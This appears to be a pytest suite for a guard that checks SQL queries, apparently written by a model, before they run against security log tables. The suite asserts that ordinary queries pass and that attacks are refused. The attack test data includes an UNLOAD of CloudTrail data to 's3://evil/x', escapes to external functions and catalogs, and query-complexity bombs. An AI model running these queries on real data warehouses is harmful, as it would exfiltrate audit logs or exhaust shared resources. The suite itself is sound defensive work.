from __future__ import annotations

from pathlib import Path

import pytest
import sqlglot
from hypothesis import given, settings
from hypothesis import strategies as st

from mantissa.adapters.local.duckdb import DuckDBEngine
from mantissa.ask.guard import Allowed, guard
from mantissa.ask.reads import Names
from mantissa.errors import GuardRefused
from mantissa.model import QueryLimits
from support.ask_lake import TABLES, VIEWS, write_lake
from support.ask_queries import allowed, attacks

NAMES = Names.of(TABLES, VIEWS)


def check(sql: str) -> Allowed:
    return guard(sql, NAMES, constants=True)


def refusal(sql: str, dialect: str = "duckdb", **options: bool) -> GuardRefused:
    with pytest.raises(GuardRefused) as caught:
        guard(sql, NAMES, dialect=dialect, **options)
    return caught.value


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> DuckDBEngine:
    home: Path = tmp_path_factory.mktemp("home")
    write_lake(home)
    return DuckDBEngine(home, TABLES, VIEWS, threads=1)


def cells(engine: DuckDBEngine, sql: str) -> str:
    table = engine.run(sql, limits=QueryLimits()).table
    return repr([column.to_pylist() for column in table.columns])


@pytest.mark.parametrize("sql", allowed())
def test_peoples_queries_pass_and_run(engine: DuckDBEngine, sql: str) -> None:
    assert cells(engine, check(sql).sql) == cells(engine, check(check(sql).trino).sql)


@pytest.mark.parametrize(("code", "sql"), attacks())
def test_attacks_are_refused_by_their_rule(code: str, sql: str) -> None:
    assert refusal(sql, constants=True).code == code


@pytest.mark.parametrize("dialect", ["athena", "trino"])
@pytest.mark.parametrize(
    ("code", "sql"),
    [
        ("not_select", "UNLOAD (SELECT * FROM aws_cloudtrail) TO 's3://evil/x'"),
        ("not_select", "USING EXTERNAL FUNCTION f(x VARCHAR) RETURNS VARCHAR LAMBDA 'l' SELECT 1"),
        ("not_select", "CREATE TABLE x AS SELECT * FROM aws_cloudtrail"),
        ("not_select", "EXECUTE IMMEDIATE 'SELECT 1'"),
        ("function", "SELECT * FROM TABLE(system.query(query => 'SELECT 1'))"),
        ("table", 'SELECT * FROM "lambda:cat".db.t'),
        ("table", "SELECT * FROM information_schema.tables"),
        ("table", 'SELECT * FROM "aws_cloudtrail$partitions"'),
        ("table", "SELECT * FROM awsdatacatalog.other.aws_cloudtrail"),
        ("time_travel", "SELECT * FROM aws_cloudtrail FOR TIMESTAMP AS OF TIMESTAMP '2020-01-01'"),
        ("sampling", "SELECT * FROM aws_cloudtrail TABLESAMPLE BERNOULLI (10)"),
        (
            "recursive",
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n FROM r) SELECT * FROM r",
        ),
        ("cartesian_join", "SELECT 1 FROM aws_cloudtrail a JOIN aws_vpcflow b ON 1 = 1"),
        ("function", "SELECT current_user FROM aws_cloudtrail"),
        ("function", "SELECT sequence(1, 1000000000) FROM aws_cloudtrail"),
        ("invented_rows", "SELECT * FROM UNNEST(ARRAY[1, 2]) AS t(a)"),
        ("column", "SELECT nope FROM aws_cloudtrail"),
    ],
)
def test_attacks_on_athena_and_trino(dialect: str, code: str, sql: str) -> None:
    assert refusal(sql, dialect).code == code


@pytest.mark.parametrize("dialect", ["athena", "trino"])
def test_an_ordinary_query_in_trinos_words(dialect: str) -> None:
    sql = (
        "SELECT eventname, approx_distinct(src_ip) FROM aws_cloudtrail WHERE event_date >= "
        "'2026-03-01' AND json_extract_scalar(requestparameters, '$.bucketName') = 'logs' "
        "AND regexp_like(useragent, 'aws') GROUP BY 1"
    )
    assert "JSON_EXTRACT_SCALAR" in guard(sql, NAMES, dialect=dialect).sql


def test_comments_never_reach_the_engine() -> None:
    assert "secret" not in check("SELECT /* secret */ 1 -- secret").sql


def test_refusals_quote_no_literal() -> None:
    for _, sql in attacks():
        shown = refusal(sql.replace("'x'", "'hush-hush'"), constants=True)
        assert "hush-hush" not in f"{shown} {shown.fix} {shown.where}"
        assert "/etc/passwd'" not in str(shown)


def test_refusals_point_to_the_nearest_name() -> None:
    assert "aws_cloudtrail" in str(refusal("SELECT * FROM aws_clodtrail").fix)
    assert "eventname" in str(refusal("SELECT evntname FROM aws_cloudtrail").fix)
    assert "single quotes" in str(refusal('SELECT raw FROM aws_cloudtrail WHERE raw = "zzq"').fix)
    shared = refusal("SELECT outcome FROM aws_cloudtrail c JOIN okta_system o USING (actor_user)")
    assert "aws_cloudtrail and okta_system" in str(shared)
    assert refusal("SELECT raw FROM\n aws_cloudtrail WHERE )").where == "line 2, column 23"


def test_a_model_may_not_invent_rows() -> None:
    assert refusal("SELECT 1").code == "invented_rows"
    union = "SELECT eventname FROM aws_cloudtrail UNION ALL SELECT 'made up'"
    assert refusal(union).code == "invented_rows"


@pytest.mark.parametrize(
    ("sql", "limit"),
    [
        ("SELECT eventname FROM aws_cloudtrail", 50),
        ("SELECT eventname FROM aws_cloudtrail LIMIT 7", 7),
        ("SELECT eventname FROM aws_cloudtrail OFFSET 3 LIMIT 700", 50),
        ("SELECT eventname FROM aws_cloudtrail UNION ALL SELECT actor_user FROM okta_system", 50),
        ("(SELECT eventname FROM aws_cloudtrail LIMIT 3)", 50),
    ],
)
def test_row_limit_is_added_or_lowered(sql: str, limit: int) -> None:
    assert f"LIMIT {limit}" in guard(sql, NAMES, max_rows=50).sql
    assert guard(sql, NAMES, max_rows=None).sql.count("LIMIT") == sql.count("LIMIT")


def repeated(piece: str, times: int, joint: str) -> str:
    return joint.join(piece.format(n=n) for n in range(times))


@pytest.mark.parametrize(
    ("code", "sql"),
    [
        ("too_long", "SELECT '" + "x" * 100_001 + "'"),
        ("too_long", f"SELECT raw FROM aws_cloudtrail WHERE {repeated('raw = 1', 2000, ' OR ')}"),
        ("too_long", f"SELECT {repeated('1', 11_000, ',')}"),
        ("too_deep", f"SELECT {'(' * 5000}1{')' * 5000}"),
        ("too_deep", f"SELECT {'NOT ' * 5000}true"),
        ("too_deep", f"SELECT {'- ' * 5000}1"),
        ("too_deep", f"SELECT {'CASE WHEN true THEN ' * 500}1{' END' * 500}"),
        ("too_deep", f"SELECT raw{'[1]' * 3000} FROM aws_cloudtrail"),
        ("too_deep", f"SELECT {'CAST(' * 2000}raw{' AS varchar)' * 2000} FROM aws_cloudtrail"),
        (
            "too_complex",
            "WITH a0 AS (SELECT event_id FROM aws_cloudtrail), "
            + ", ".join(
                f"a{n} AS (SELECT p.event_id FROM a{n - 1} p JOIN a{n - 1} q USING (event_id))"
                for n in range(1, 40)
            )
            + " SELECT * FROM a39",
        ),
        (
            "too_complex",
            "WITH a0 AS (SELECT * FROM aws_cloudtrail), "
            + ", ".join(f"a{n} AS (SELECT *, * FROM a{n - 1})" for n in range(1, 40))
            + " SELECT 1 FROM a39",
        ),
        (
            "too_complex",
            f"SELECT bytes AS b0, {repeated('b{n} + b{n} AS b{n}', 1, '')}, "
            + ", ".join(f"b{n - 1} + b{n - 1} AS b{n}" for n in range(1, 60))
            + " FROM aws_vpcflow",
        ),
        ("parse", "SELECT '\x00'"),
        ("parse", "SELECT '\ud800'"),
    ],
    ids=range(14),
)
def test_bombs_are_refused_before_they_grow(code: str, sql: str) -> None:
    assert refusal(sql, constants=True).code == code


def test_a_long_list_of_addresses_is_no_bomb() -> None:
    addresses = ", ".join(f"'10.0.{n // 256}.{n % 256}'" for n in range(4000))
    assert check(f"SELECT count(*) FROM aws_vpcflow WHERE src_ip IN ({addresses})").tables


def words() -> list[list[str]]:
    texts = [*allowed(), *(sql for _, sql in attacks())]
    split = []
    for sql in texts:
        try:
            tokens = sqlglot.tokenize(sql, read="trino")
        except sqlglot.errors.TokenError:
            continue
        split.append([sql[token.start : token.end + 1] for token in tokens])
    return [line for line in split if line]


LINES = words()
WORDS = sorted({word for line in LINES for word in line})


@st.composite
def mutated(draw: st.DrawFn) -> str:
    """Take a query and cut, copy and graft pieces of others into it."""
    line = list(draw(st.sampled_from(LINES)))
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(line)))
        graft = draw(st.sampled_from(LINES))
        start = draw(st.integers(0, len(graft) - 1))
        piece = draw(
            st.one_of(
                st.just([]),
                st.just(graft[start : start + 6]),
                st.sampled_from(WORDS).map(lambda word: [word]),
                st.text(max_size=3).map(lambda text: [text]),
            )
        )
        line[at : at + draw(st.integers(0, 3))] = piece
    return " ".join(line)


@settings(max_examples=600, deadline=None)
@given(sql=mutated())
def test_mutations_are_refused_or_settle(sql: str) -> None:
    """The guard fails in one way only, and what it lets through, it lets through unchanged."""
    try:
        first = check(sql)
    except GuardRefused as refused:
        assert refused.code != "error"
        return
    again = check(first.trino)
    assert (again.sql, again.trino, again.tables, set(again.reads)) == (
        first.sql,
        first.trino,
        first.tables,
        set(first.reads),
    )
    assert again.tree == first.tree
